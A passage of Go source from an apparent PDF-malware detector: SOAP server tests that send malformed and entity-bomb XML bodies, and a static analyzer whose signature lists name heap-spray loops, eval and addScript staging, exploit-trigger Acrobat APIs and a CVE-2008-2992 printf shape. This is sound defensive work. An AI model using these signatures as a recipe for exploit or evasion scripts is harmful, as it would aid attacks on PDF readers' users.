		{"undefined entity", `<Envelope xmlns="http://schemas.xmlsoap.org/soap/envelope/"><Body><Notify xmlns="urn:pdfshield:ctx"><Event>&bomb;</Event><Key>k</Key><Seq>1</Seq></Notify></Body></Envelope>`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			n, err := UnmarshalNotify([]byte(tc.in))
			if err == nil {
				t.Fatalf("accepted malformed envelope: %+v", n)
			}
			if !errors.Is(err, ErrEnvelope) {
				t.Fatalf("error %v is not wrapped in ErrEnvelope", err)
			}
		})
	}

	// Oversized-but-under-limit bodies are legal XML: they must decode (the
	// size cap is the HTTP server's job), proving the decoder itself has no
	// hidden length assumptions to trip over.
	n, err := UnmarshalNotify([]byte(oversized))
	if err != nil {
		t.Fatalf("oversized-but-valid envelope rejected: %v", err)
	}
	if n.Event != EventEnter || len(n.Key) != 900<<10 {
		t.Fatalf("oversized envelope decoded wrong: event=%q keylen=%d", n.Event, len(n.Key))
	}
}

// TestUnmarshalAckMalformed mirrors the malformed-input table for the
// response direction used by the in-document SOAP client.
func TestUnmarshalAckMalformed(t *testing.T) {
	cases := []struct {
		name string
		in   string
	}{
		{"empty", ""},
		{"truncated", `<Envelope xmlns="http://schemas.xmlsoap.org/soap/envelope/"><Body><Ack xmlns="urn:pdfshield:ctx"><Stat`},
		{"missing ack", `<Envelope xmlns="http://schemas.xmlsoap.org/soap/envelope/"><Body></Body></Envelope>`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if _, err := UnmarshalAck([]byte(tc.in)); err == nil {
				t.Fatal("accepted malformed ack")
			} else if !errors.Is(err, ErrEnvelope) {
				t.Fatalf("error %v is not wrapped in ErrEnvelope", err)
			}
		})
	}
}

// TestServerRejectsMalformedRequests sends hostile bodies at a live server
// and asserts each comes back as a SOAP fault (HTTP 500 with a Fault body),
// with the server still healthy for a valid request afterwards.
func TestServerRejectsMalformedRequests(t *testing.T) {
	received := 0
	srv := NewServer(func(n Notify, remote string) error {
		received++
		return nil
	})
	if err := srv.Start(); err != nil {
		t.Fatalf("start: %v", err)
	}
	defer srv.Close()

	post := func(body string) *http.Response {
		t.Helper()
		resp, err := http.Post(srv.URL(), "text/xml", bytes.NewReader([]byte(body)))
		if err != nil {
			t.Fatalf("post: %v", err)
		}
		t.Cleanup(func() { _ = resp.Body.Close() })
		return resp
	}

	for _, body := range []string{
		"",
		"garbage",
		`<Envelope xmlns="http://schemas.xmlsoap.org/soap/envelope/"><Body><Notify xmlns="urn:pdfshield:ctx"><Event>enter</Eve`,
		strings.Repeat("A", 2<<20), // over the 1 MB cap: truncated read, still a clean fault
	} {
		resp := post(body)
		if resp.StatusCode != http.StatusInternalServerError {
			t.Fatalf("malformed body got HTTP %d, want %d", resp.StatusCode, http.StatusInternalServerError)
		}
	}
	if received != 0 {
		t.Fatalf("handler ran %d times on malformed input", received)
	}

	valid, err := MarshalNotify(Notify{Event: EventEnter, Key: "det:ik", Seq: 1, PID: 7})
	if err != nil {
		t.Fatalf("marshal: %v", err)
	}
	resp := post(string(valid))
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("valid request after malformed ones got HTTP %d", resp.StatusCode)
	}
	if received != 1 {
		t.Fatalf("handler ran %d times for one valid request", received)
	}
}
