package soapsrv

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"sync"
	"time"
)

// Handler processes a context notification. Returning an error produces a
// SOAP fault; the detector's zero-tolerance policy to fake messages is
// implemented in the handler, not here.
type Handler func(n Notify, remote string) error

// Server is the tiny SOAP server embedded in the runtime detector.
type Server struct {
	handler Handler

	mu       sync.Mutex
	listener net.Listener
	httpSrv  *http.Server
	addr     string
}

// NewServer returns an unstarted server.
func NewServer(handler Handler) *Server {
	return &Server{handler: handler}
}

// Start binds a loopback port and serves until Close.
func (s *Server) Start() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.listener != nil {
		return errors.New("soap server already started")
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return fmt.Errorf("soap server listen: %w", err)
	}
	mux := http.NewServeMux()
	mux.HandleFunc("/ctx", s.serveCtx)
	srv := &http.Server{
		Handler:           mux,
		ReadHeaderTimeout: 5 * time.Second,
	}
	s.listener = ln
	s.httpSrv = srv
	s.addr = ln.Addr().String()
	go func() {
		// Serve exits with ErrServerClosed on Close; other errors have no
		// receiver and the server is simply dead, which tests observe as
		// connection failures.
		_ = srv.Serve(ln)
	}()
	return nil
}

// Addr returns the bound address ("127.0.0.1:port").
func (s *Server) Addr() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.addr
}

// URL returns the endpoint URL for clients.
func (s *Server) URL() string { return "http://" + s.Addr() + "/ctx" }

// Close shuts the server down.
func (s *Server) Close() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.httpSrv == nil {
		return nil
	}
	err := s.httpSrv.Close()
	s.httpSrv = nil
	s.listener = nil
	return err
}

const maxRequestBytes = 1 << 20

func (s *Server) serveCtx(w http.ResponseWriter, r *http.Request) {
	defer func() { _ = r.Body.Close() }()
	data, err := io.ReadAll(io.LimitReader(r.Body, maxRequestBytes))
	if err != nil {
		writeFault(w, "Client", "unreadable body")
		return
	}
	n, err := UnmarshalNotify(data)
	if err != nil {
		writeFault(w, "Client", err.Error())
		return
	}
	if err := s.handler(n, r.RemoteAddr); err != nil {
		writeFault(w, "Server", err.Error())
		return
	}
	ack, err := MarshalAck("ok")
	if err != nil {
		writeFault(w, "Server", err.Error())
		return
	}
	w.Header().Set("Content-Type", "text/xml; charset=utf-8")
	_, _ = w.Write(ack)
}

func writeFault(w http.ResponseWriter, code, msg string) {
	body, err := MarshalFault(code, msg)
	if err != nil {
		http.Error(w, msg, http.StatusInternalServerError)
		return
	}
	w.Header().Set("Content-Type", "text/xml; charset=utf-8")
	w.WriteHeader(http.StatusInternalServerError)
	_, _ = w.Write(body)
}
