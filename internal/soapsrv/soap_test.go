package soapsrv

import (
	"strings"
	"sync"
	"testing"
)

func TestEnvelopeRoundTrip(t *testing.T) {
	n := Notify{Event: EventEnter, Key: "DID123:IK456", Seq: 7}
	data, err := MarshalNotify(n)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(data), "Envelope") {
		t.Errorf("no Envelope in %s", data)
	}
	got, err := UnmarshalNotify(data)
	if err != nil {
		t.Fatal(err)
	}
	if got != n {
		t.Errorf("round trip: got %+v, want %+v", got, n)
	}
}

func TestEnvelopeRejectsBadEvent(t *testing.T) {
	data, err := MarshalNotify(Notify{Event: "pwn", Key: "k"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := UnmarshalNotify(data); err == nil {
		t.Error("expected invalid event error")
	}
}

func TestEnvelopeRejectsGarbage(t *testing.T) {
	for _, src := range []string{"", "not xml", "<Envelope/>", "<a><b></b></a>"} {
		if _, err := UnmarshalNotify([]byte(src)); err == nil {
			t.Errorf("%q: expected error", src)
		}
	}
}

func TestAckAndFault(t *testing.T) {
	ack, err := MarshalAck("ok")
	if err != nil {
		t.Fatal(err)
	}
	status, err := UnmarshalAck(ack)
	if err != nil || status != "ok" {
		t.Errorf("ack: status=%q err=%v", status, err)
	}
	fault, err := MarshalFault("Client", "bad key")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := UnmarshalAck(fault); err == nil {
		t.Error("fault should unmarshal to error")
	}
}

func TestServerClientEndToEnd(t *testing.T) {
	var mu sync.Mutex
	var received []Notify
	srv := NewServer(func(n Notify, remote string) error {
		mu.Lock()
		defer mu.Unlock()
		received = append(received, n)
		return nil
	})
	if err := srv.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = srv.Close() }()

	client := NewClient(srv.URL())
	for i, ev := range []string{EventEnter, EventExit} {
		status, err := client.Send(Notify{Event: ev, Key: "D:K", Seq: i})
		if err != nil {
			t.Fatalf("send %s: %v", ev, err)
		}
		if status != "ok" {
			t.Errorf("status = %q", status)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if len(received) != 2 {
		t.Fatalf("received %d messages", len(received))
	}
	if received[0].Event != EventEnter || received[1].Event != EventExit {
		t.Errorf("events = %+v", received)
	}
}

func TestServerHandlerErrorBecomesFault(t *testing.T) {
	srv := NewServer(func(n Notify, remote string) error {
		return errInvalidKey
	})
	if err := srv.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = srv.Close() }()

	client := NewClient(srv.URL())
	if _, err := client.Send(Notify{Event: EventEnter, Key: "forged"}); err == nil {
		t.Error("expected fault from handler rejection")
	}
}

var errInvalidKey = &keyError{}

type keyError struct{}

func (*keyError) Error() string { return "invalid key" }

func TestServerRejectsForgedRaw(t *testing.T) {
	srv := NewServer(func(n Notify, remote string) error { return nil })
	if err := srv.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = srv.Close() }()
	client := NewClient(srv.URL())
	if _, err := client.SendRaw([]byte("<xml>garbage</xml>")); err == nil {
		t.Error("expected fault for malformed envelope")
	}
}

func TestServerDoubleStart(t *testing.T) {
	srv := NewServer(func(n Notify, remote string) error { return nil })
	if err := srv.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = srv.Close() }()
	if err := srv.Start(); err == nil {
		t.Error("second Start should fail")
	}
}
