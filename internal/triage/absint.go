package triage

import (
	"strconv"
	"strings"

	"pdfshield/internal/js"
)

// The abstract interpreter: a flow-insensitive over-approximation of each
// extracted script in the spirit of SAFE-PDF. Values carry a small tag
// lattice (derived-from-unescape) plus, where statically resolvable, a
// concrete string constant — enough to see through the two obfuscation
// idioms the corpus (and the wild) actually use: eval of a string literal
// and eval of concatenated literal halves. Every branch of every
// conditional is walked (union semantics, no path pruning), so anything
// reachable on any path is reachable to the analysis; loops are walked
// once and the whole program is walked twice, which reaches the tag
// fixpoint for the monotone lattice used here (tags only ever grow).
//
// The output is two sets: weighted suspicion signals (heap-spray growth
// shapes, trigger-API families, staging rewrites) and fail-safe
// uncertainty markers (parse failures, unknown APIs, dynamic eval,
// budget blowups). Signals convict at the configured threshold;
// uncertainty markers only ever push toward the dynamic tier.

// Signal names and weights. A distinct signal contributes its weight
// once; the malicious threshold (default 8) equals the weight of the
// canonical spray shape (unescape + doubling-to-heap-size), so spray-only
// samples (Flash/CoolType carriers whose JS never calls a trigger API)
// still convict.
const (
	// SignalSprayGrow: an unescape-derived string doubled to heap-spray
	// size (>= sprayGrowUnits) in a self-append loop.
	SignalSprayGrow = "spray-grow"
	// SignalUnescapeGrow: an unescape-derived string doubled below spray
	// size (the trigger-argument grooming idiom).
	SignalUnescapeGrow = "unescape-grow"
	// SignalLargeGrow: a non-unescape string doubled to spray size.
	SignalLargeGrow = "large-grow"
	// SignalUnescape: any unescape() call.
	SignalUnescape = "unescape"
	// SignalEval: any eval() call (resolvable or not).
	SignalEval = "eval"
	// SignalStagedScript / SignalStagedTimer: doc.addScript / string-form
	// app.setTimeOut staging (the delayed-execution rewrites of §III-C).
	SignalStagedScript = "staged-script"
	SignalStagedTimer  = "staged-timer"
	// SignalPrintfWidth: util.printf with a literal field width large
	// enough to smash the stack (CVE-2008-2992 shape).
	SignalPrintfWidth = "printf-width"
)

// sprayGrowUnits is the doubling-limit boundary between argument grooming
// and heap spraying (64 Ki UTF-16 units; real sprays double to hundreds
// of KiB, benign code never self-appends at all).
const sprayGrowUnits = 65536

// printfWidthLimit is the literal field width at which util.printf is
// treated as an exploit attempt rather than formatting.
const printfWidthLimit = 1024

func signalWeight(sig string) int {
	switch sig {
	case SignalSprayGrow:
		return 6
	case SignalLargeGrow:
		return 3
	case SignalUnescapeGrow, SignalUnescape:
		return 2
	case SignalEval:
		return 1
	case SignalStagedScript, SignalStagedTimer:
		return 3
	case SignalPrintfWidth:
		return 5
	}
	if strings.HasPrefix(sig, "api-") {
		// Table III trigger-API families (getIcon, newPlayer, ...).
		return 5
	}
	return 0
}

// triggerAPIs are the vulnerable / exploit-delivery APIs of the corpus
// CVE families (keyed by final call-path segment).
var triggerAPIs = map[string]bool{
	"getIcon":              true,
	"newPlayer":            true,
	"customDictionaryOpen": true,
	"printSeps":            true,
	"getAnnots":            true,
	"exportDataObject":     true,
	"getURL":               true,
	"launchURL":            true,
}

// benignAPIs is the allowlist of call targets (final call-path segment)
// the benign population uses: AcroForm field plumbing, formatting,
// alerts, and plain string/array/number work. A call outside this list
// (and outside the special cases handled inline) marks the script
// uncertain — fail-safe, not a conviction.
var benignAPIs = map[string]bool{
	// Acrobat benign surface.
	"getField": true, "printd": true, "alert": true, "beep": true,
	"calculateNow": true, "syncAnnotScan": true,
	// String/array/number builtins.
	"split": true, "join": true, "substring": true, "substr": true,
	"charAt": true, "charCodeAt": true, "indexOf": true,
	"lastIndexOf": true, "toLowerCase": true, "toUpperCase": true,
	"toString": true, "toFixed": true, "push": true, "pop": true,
	"shift": true, "slice": true, "concat": true, "replace": true,
	"match": true, "floor": true, "ceil": true, "round": true,
	"abs": true, "min": true, "max": true,
	"parseInt": true, "parseFloat": true, "isNaN": true,
	"String": true, "Number": true, "Boolean": true,
}

// benignCtors are constructor names allowed in new-expressions.
var benignCtors = map[string]bool{
	"Array": true, "Object": true, "String": true, "Number": true,
	"Boolean": true, "Date": true, "RegExp": true, "Error": true,
}

// maxEvalDepth bounds recursion through resolvable eval/staging layers.
const maxEvalDepth = 4

// tagSet is the abstract value lattice.
type tagSet uint8

const tagUnescape tagSet = 1 << iota

// absValue is one abstract value: its tags plus a concrete string when
// the expression is a compile-time constant.
type absValue struct {
	tags   tagSet
	str    string
	hasStr bool
}

// varInfo is one variable's abstract state.
type varInfo struct {
	absValue
	fn bool // declared as a function in this script
}

// analysis accumulates signals and uncertainty across every script of one
// document.
type analysis struct {
	cfg       Config
	nodes     int
	exhausted bool
	signals   map[string]bool
	uncertain map[string]bool

	vars  map[string]*varInfo // current script's environment
	depth int                 // eval/staging recursion depth
}

func newAnalysis(cfg Config) *analysis {
	return &analysis{
		cfg:       cfg,
		signals:   map[string]bool{},
		uncertain: map[string]bool{},
	}
}

func (an *analysis) score() int {
	total := 0
	for sig := range an.signals {
		total += signalWeight(sig)
	}
	return total
}

func (an *analysis) signal(sig string) { an.signals[sig] = true }
func (an *analysis) unsure(why string) { an.uncertain[why] = true }
func (an *analysis) varRef(name string) *varInfo {
	vi, ok := an.vars[name]
	if !ok {
		vi = &varInfo{}
		an.vars[name] = vi
	}
	return vi
}

// charge spends node budget; once exhausted the walk stops producing
// conclusions and the document is marked uncertain (widening blowup).
func (an *analysis) charge() bool {
	an.nodes++
	if an.nodes > an.cfg.NodeBudget {
		if !an.exhausted {
			an.exhausted = true
			an.unsure("node-budget")
		}
		return false
	}
	return true
}

// analyzeScript runs the abstract interpreter over one script source.
// Any panic out of the parser or walker is contained as an uncertainty
// marker: triage must never be able to take the pipeline down, and a
// document that breaks the analyzer has earned the dynamic tier.
func (an *analysis) analyzeScript(src string) {
	defer func() {
		if r := recover(); r != nil {
			an.unsure("analysis-panic")
		}
	}()
	if src == "" {
		an.unsure("empty-script")
		return
	}
	if len(src) > an.cfg.MaxScriptBytes {
		an.unsure("script-too-large")
		return
	}
	prog, err := js.Parse(src)
	if err != nil {
		an.unsure("js-parse-error")
		return
	}
	outer := an.vars
	an.vars = map[string]*varInfo{}
	// Two passes reach the tag fixpoint (tags are monotone) and let calls
	// resolve functions declared later in the source.
	for pass := 0; pass < 2 && !an.exhausted; pass++ {
		for _, st := range prog.Body {
			an.walkStmt(st)
		}
	}
	an.vars = outer
}

// analyzeNested analyzes a statically resolved inner source (eval of a
// constant, staged script body) under the recursion bound.
func (an *analysis) analyzeNested(src string) {
	if an.depth >= maxEvalDepth {
		an.unsure("eval-depth")
		return
	}
	an.depth++
	an.analyzeScript(src)
	an.depth--
}

// ---- statement walk ----

func (an *analysis) walkStmt(s js.Stmt) {
	if s == nil || !an.charge() {
		return
	}
	switch n := s.(type) {
	case *js.VarStmt:
		for _, d := range n.Decls {
			var v absValue
			if d.Init != nil {
				v = an.walkExpr(d.Init)
			}
			an.assign(d.Name, v)
		}
	case *js.FuncDecl:
		an.varRef(n.Name).fn = true
		an.walkFunc(n.Fn)
	case *js.ExprStmt:
		an.walkExpr(n.X)
	case *js.IfStmt:
		an.walkExpr(n.Cond)
		an.walkStmt(n.Then)
		an.walkStmt(n.Else)
	case *js.WhileStmt:
		an.checkGrowLoop(n.Cond, n.Body)
		an.walkExpr(n.Cond)
		an.walkStmt(n.Body)
	case *js.DoWhileStmt:
		an.checkGrowLoop(n.Cond, n.Body)
		an.walkStmt(n.Body)
		an.walkExpr(n.Cond)
	case *js.ForStmt:
		an.walkStmt(n.Init)
		an.checkGrowLoop(n.Cond, n.Body)
		an.walkExpr(n.Cond)
		an.walkExpr(n.Post)
		an.walkStmt(n.Body)
	case *js.ForInStmt:
		an.assign(n.VarName, absValue{})
		an.walkExpr(n.Object)
		an.walkStmt(n.Body)
	case *js.ReturnStmt:
		an.walkExpr(n.X)
	case *js.BlockStmt:
		for _, st := range n.Body {
			an.walkStmt(st)
		}
	case *js.ThrowStmt:
		an.walkExpr(n.X)
	case *js.TryStmt:
		an.walkStmt(n.Body)
		an.walkStmt(n.Catch)
		an.walkStmt(n.Finally)
	case *js.SwitchStmt:
		an.walkExpr(n.Disc)
		for _, c := range n.Cases {
			an.walkExpr(c.Test)
			for _, st := range c.Body {
				an.walkStmt(st)
			}
		}
	case *js.BreakStmt, *js.ContinueStmt, *js.EmptyStmt:
	default:
		an.unsure("stmt-unknown")
	}
}

func (an *analysis) walkFunc(fn *js.FuncLit) {
	if fn == nil || !an.charge() {
		return
	}
	for _, p := range fn.Params {
		an.assign(p, absValue{})
	}
	for _, st := range fn.Body {
		an.walkStmt(st)
	}
}

// checkGrowLoop recognizes the self-append doubling shape
//
//	while (x.length < LIMIT) x += x;
//
// (any of while/do-while/for, += or x = x + x). Doubling an
// unescape-derived string is the heap-spray core; no benign corpus script
// self-appends at all.
func (an *analysis) checkGrowLoop(cond js.Expr, body js.Stmt) {
	bin, ok := cond.(*js.BinaryExpr)
	if !ok || (bin.Op != "<" && bin.Op != "<=") {
		return
	}
	mem, ok := bin.L.(*js.MemberExpr)
	if !ok || mem.Computed {
		return
	}
	obj, ok := mem.Object.(*js.Ident)
	if !ok {
		return
	}
	if prop, ok := mem.Property.(*js.StringLit); !ok || prop.Value != "length" {
		return
	}
	lim, ok := bin.R.(*js.NumberLit)
	if !ok {
		return
	}
	if !bodySelfAppends(body, obj.Name) {
		return
	}
	vi := an.varRef(obj.Name)
	switch {
	case vi.tags&tagUnescape != 0 && lim.Value >= sprayGrowUnits:
		an.signal(SignalSprayGrow)
	case vi.tags&tagUnescape != 0:
		an.signal(SignalUnescapeGrow)
	case lim.Value >= sprayGrowUnits:
		an.signal(SignalLargeGrow)
	}
}

// bodySelfAppends reports whether the loop body contains x += ...x... or
// x = ...x... (the value mentioning x itself).
func bodySelfAppends(body js.Stmt, name string) bool {
	switch n := body.(type) {
	case *js.ExprStmt:
		return exprSelfAppends(n.X, name)
	case *js.BlockStmt:
		for _, st := range n.Body {
			if bodySelfAppends(st, name) {
				return true
			}
		}
	}
	return false
}

func exprSelfAppends(e js.Expr, name string) bool {
	as, ok := e.(*js.AssignExpr)
	if !ok {
		return false
	}
	id, ok := as.Target.(*js.Ident)
	if !ok || id.Name != name {
		return false
	}
	return (as.Op == "+=" || as.Op == "=") && exprMentions(as.Value, name)
}

// exprMentions reports whether the expression references the identifier
// (shallow structural scan over the value-producing shapes growth bodies
// use).
func exprMentions(e js.Expr, name string) bool {
	switch n := e.(type) {
	case *js.Ident:
		return n.Name == name
	case *js.BinaryExpr:
		return exprMentions(n.L, name) || exprMentions(n.R, name)
	case *js.MemberExpr:
		return exprMentions(n.Object, name)
	case *js.CallExpr:
		for _, a := range n.Args {
			if exprMentions(a, name) {
				return true
			}
		}
		return exprMentions(n.Callee, name)
	}
	return false
}

// ---- expression walk ----

func (an *analysis) walkExpr(e js.Expr) absValue {
	if e == nil || !an.charge() {
		return absValue{}
	}
	switch n := e.(type) {
	case *js.StringLit:
		return absValue{str: n.Value, hasStr: true}
	case *js.NumberLit, *js.BoolLit, *js.NullLit, *js.ThisLit:
		return absValue{}
	case *js.Ident:
		if vi, ok := an.vars[n.Name]; ok {
			return vi.absValue
		}
		return absValue{}
	case *js.ArrayLit:
		var v absValue
		for _, el := range n.Elems {
			v.tags |= an.walkExpr(el).tags
		}
		v.hasStr = false
		return v
	case *js.ObjectLit:
		for _, val := range n.Values {
			an.walkExpr(val)
		}
		return absValue{}
	case *js.FuncLit:
		an.walkFunc(n)
		return absValue{}
	case *js.UnaryExpr:
		an.walkExpr(n.X)
		return absValue{}
	case *js.UpdateExpr:
		an.walkExpr(n.X)
		return absValue{}
	case *js.BinaryExpr:
		l, r := an.walkExpr(n.L), an.walkExpr(n.R)
		v := absValue{tags: l.tags | r.tags}
		if n.Op == "+" && l.hasStr && r.hasStr {
			v.str, v.hasStr = l.str+r.str, true
		}
		return v
	case *js.LogicalExpr:
		l, r := an.walkExpr(n.L), an.walkExpr(n.R)
		return absValue{tags: l.tags | r.tags}
	case *js.CondExpr:
		an.walkExpr(n.Cond)
		t, f := an.walkExpr(n.Then), an.walkExpr(n.Else)
		return absValue{tags: t.tags | f.tags}
	case *js.AssignExpr:
		v := an.walkExpr(n.Value)
		if id, ok := n.Target.(*js.Ident); ok {
			if n.Op == "=" {
				an.assign(id.Name, v)
			} else {
				vi := an.varRef(id.Name)
				vi.tags |= v.tags
				vi.hasStr = false
			}
		} else {
			an.walkExpr(n.Target)
		}
		return v
	case *js.SeqExpr:
		var v absValue
		for _, x := range n.Exprs {
			v = an.walkExpr(x)
		}
		return v
	case *js.MemberExpr:
		an.walkExpr(n.Object)
		if n.Computed {
			an.walkExpr(n.Property)
		}
		return absValue{}
	case *js.NewExpr:
		for _, a := range n.Args {
			an.walkExpr(a)
		}
		if id, ok := n.Callee.(*js.Ident); ok && benignCtors[id.Name] {
			return absValue{}
		}
		an.unsure("new-unknown")
		return absValue{}
	case *js.CallExpr:
		return an.walkCall(n)
	default:
		an.unsure("expr-unknown")
		return absValue{}
	}
}

// assign merges a value into a variable (tags are unioned — the
// flow-insensitive over-approximation — while the string constant tracks
// the latest resolvable value).
func (an *analysis) assign(name string, v absValue) {
	vi := an.varRef(name)
	vi.tags |= v.tags
	vi.str, vi.hasStr = v.str, v.hasStr
}

// walkCall classifies one call site.
func (an *analysis) walkCall(call *js.CallExpr) absValue {
	args := make([]absValue, len(call.Args))
	for i, a := range call.Args {
		args[i] = an.walkExpr(a)
	}
	var argTags tagSet
	for _, a := range args {
		argTags |= a.tags
	}
	path := calleePath(call.Callee)
	final := finalSegment(path)

	switch final {
	case "unescape":
		an.signal(SignalUnescape)
		return absValue{tags: argTags | tagUnescape}
	case "eval":
		an.signal(SignalEval)
		if len(args) >= 1 && args[0].hasStr {
			an.analyzeNested(args[0].str)
		} else {
			an.unsure("eval-dynamic")
		}
		return absValue{}
	case "addScript":
		an.signal(SignalStagedScript)
		if len(args) >= 2 && args[1].hasStr {
			an.analyzeNested(args[1].str)
		} else {
			an.unsure("staging-dynamic")
		}
		return absValue{}
	case "setTimeOut", "setInterval":
		an.signal(SignalStagedTimer)
		if len(args) >= 1 && args[0].hasStr {
			an.analyzeNested(args[0].str)
		} else {
			an.unsure("staging-dynamic")
		}
		return absValue{}
	case "printf":
		if len(args) >= 1 && args[0].hasStr {
			if maxFormatWidth(args[0].str) >= printfWidthLimit {
				an.signal(SignalPrintfWidth)
			}
			return absValue{hasStr: false}
		}
		an.unsure("printf-dynamic")
		return absValue{}
	}
	if triggerAPIs[final] {
		an.signal("api-" + final)
		return absValue{}
	}
	if benignAPIs[final] {
		return absValue{tags: argTags &^ tagUnescape}
	}
	// A bare call to a function declared in this script is covered by the
	// declaration's own walk.
	if id, ok := call.Callee.(*js.Ident); ok {
		if vi, ok := an.vars[id.Name]; ok && vi.fn {
			return absValue{}
		}
	}
	an.unsure("api-unknown:" + shortPath(path))
	return absValue{}
}

// calleePath renders a call target as a dotted path; unresolvable parts
// become "?".
func calleePath(e js.Expr) string {
	switch n := e.(type) {
	case *js.Ident:
		return n.Name
	case *js.ThisLit:
		return "this"
	case *js.MemberExpr:
		prop := "?"
		if !n.Computed {
			if s, ok := n.Property.(*js.StringLit); ok {
				prop = s.Value
			}
		}
		return calleePath(n.Object) + "." + prop
	default:
		return "?"
	}
}

func finalSegment(path string) string {
	if i := strings.LastIndexByte(path, '.'); i >= 0 {
		return path[i+1:]
	}
	return path
}

// shortPath bounds the path embedded in an uncertainty marker so hostile
// sources cannot balloon the decision record.
func shortPath(path string) string {
	const max = 48
	if len(path) > max {
		return path[:max] + "..."
	}
	return path
}

// maxFormatWidth finds the largest literal field width in a printf-style
// format string ("%45000f" → 45000).
func maxFormatWidth(format string) int {
	best := 0
	for i := 0; i < len(format); i++ {
		if format[i] != '%' {
			continue
		}
		j := i + 1
		for j < len(format) && format[j] >= '0' && format[j] <= '9' {
			j++
		}
		if j > i+1 {
			// Width digits are bounded before Atoi so a hostile format
			// cannot overflow.
			digits := format[i+1 : j]
			if len(digits) > 9 {
				digits = digits[:9]
			}
			if w, err := strconv.Atoi(digits); err == nil && w > best {
				best = w
			}
		}
		i = j - 1
	}
	return best
}
