package triage

import (
	"bytes"
	"math"

	"pdfshield/internal/instrument"
)

// Census is the PDFInspect-style structural survey of one submission:
// byte-level statistics over the original bytes plus the structural facts
// the front end already established. Counts that legitimately occur in
// the benign population (/OpenAction on a form document, /AA on a page)
// are reported but do not gate; the Flags list holds the conditions that
// disqualify confident-benign outright.
type Census struct {
	// SizeBytes is the raw submission size.
	SizeBytes int `json:"size_bytes"`
	// EOFMarkers counts %%EOF occurrences; more than one indicates
	// incremental updates (or an appended-object attack) and routes the
	// document to the dynamic tier.
	EOFMarkers int `json:"eof_markers"`
	// Entropy is the Shannon entropy (bits/byte) over the first
	// entropySample bytes. Reported for operators; compressed benign
	// streams score high too, so it never gates on its own.
	Entropy float64 `json:"entropy"`
	// Names counts suspicious name occurrences in the raw bytes.
	Names NameCensus `json:"names"`
	// Objects / EmptyObjects / HexNames / EncodingLevels / Ratio mirror
	// the front end's structural findings.
	Objects        int     `json:"objects"`
	EmptyObjects   int     `json:"empty_objects"`
	HexNames       int     `json:"hex_names"`
	EncodingLevels int     `json:"encoding_levels"`
	Ratio          float64 `json:"ratio"`
	// Static is the normalized F1–F5 vector (Table VII rules).
	Static [5]int `json:"static"`
	// Recovered / Encrypted / EmbeddedPDFs are the hard fail-safe
	// markers: scavenged parses, stripped owner passwords and compound
	// documents always take the dynamic path.
	Recovered    bool `json:"recovered,omitempty"`
	Encrypted    bool `json:"encrypted,omitempty"`
	EmbeddedPDFs int  `json:"embedded_pdfs,omitempty"`
	// Flags lists the census conditions that disqualify confident-benign
	// (sorted; empty for a clean document).
	Flags []string `json:"flags,omitempty"`
}

// NameCensus counts suspicious PDF names in the raw bytes. Matching is on
// name boundaries, so /AA does not match /AABB; hex-escaped spellings
// (/Lau#6ech) are invisible here by design — they raise F3 instead.
type NameCensus struct {
	AA           int `json:"aa,omitempty"`
	OpenAction   int `json:"open_action,omitempty"`
	JavaScript   int `json:"javascript,omitempty"`
	Launch       int `json:"launch,omitempty"`
	RichMedia    int `json:"rich_media,omitempty"`
	EmbeddedFile int `json:"embedded_file,omitempty"`
	ObjStm       int `json:"obj_stm,omitempty"`
	XFA          int `json:"xfa,omitempty"`
}

// entropySample bounds the entropy scan so triage stays sub-millisecond
// on large documents.
const entropySample = 512 << 10

// CensusDim is the dimensionality of Census.FeatureVector.
const CensusDim = 16

// FeatureVector flattens the census into a fixed-width dense vector for
// the internal/ml toolbox, so classifiers (and the Table IX baselines)
// can train on the same unified static extraction the triage tier gates
// on. Ordering is part of the trained-model contract; append, never
// reorder.
func (c Census) FeatureVector() []float64 {
	v := make([]float64, CensusDim)
	v[0] = math.Log1p(float64(c.SizeBytes))
	v[1] = float64(c.EOFMarkers)
	v[2] = c.Entropy
	v[3] = float64(c.Names.AA)
	v[4] = float64(c.Names.OpenAction)
	v[5] = float64(c.Names.JavaScript)
	v[6] = float64(c.Names.Launch)
	v[7] = float64(c.Names.RichMedia)
	v[8] = float64(c.Names.EmbeddedFile)
	v[9] = float64(c.Names.ObjStm)
	v[10] = float64(c.Names.XFA)
	v[11] = float64(c.Objects)
	v[12] = float64(c.EmptyObjects + c.HexNames)
	v[13] = float64(c.EncodingLevels)
	v[14] = c.Ratio
	v[15] = float64(c.Static[0] + c.Static[1] + c.Static[2] + c.Static[3] + c.Static[4])
	return v
}

// TakeCensus surveys one submission. res may be nil (bytes-only survey,
// used by fuzzing); a nil res flags "no-analysis" so the result can never
// route confident-benign.
func TakeCensus(raw []byte, res *instrument.Result) Census {
	c := Census{
		SizeBytes:  len(raw),
		EOFMarkers: bytes.Count(raw, []byte("%%EOF")),
		Entropy:    shannonEntropy(raw),
		Names: NameCensus{
			AA:           countName(raw, "/AA"),
			OpenAction:   countName(raw, "/OpenAction"),
			JavaScript:   countName(raw, "/JavaScript"),
			Launch:       countName(raw, "/Launch"),
			RichMedia:    countName(raw, "/RichMedia"),
			EmbeddedFile: countName(raw, "/EmbeddedFile"),
			ObjStm:       countName(raw, "/ObjStm"),
			XFA:          countName(raw, "/XFA"),
		},
	}
	flag := func(f string) { c.Flags = append(c.Flags, f) }
	if res == nil {
		flag("no-analysis")
	} else {
		f := res.Features
		c.Objects = res.ObjectCount
		c.EmptyObjects = f.EmptyObjects
		c.HexNames = f.HexCodeCount
		c.EncodingLevels = f.EncodingLevels
		c.Ratio = f.Ratio
		c.Static = f.Vector()
		c.Encrypted = res.OwnerPasswordRemoved
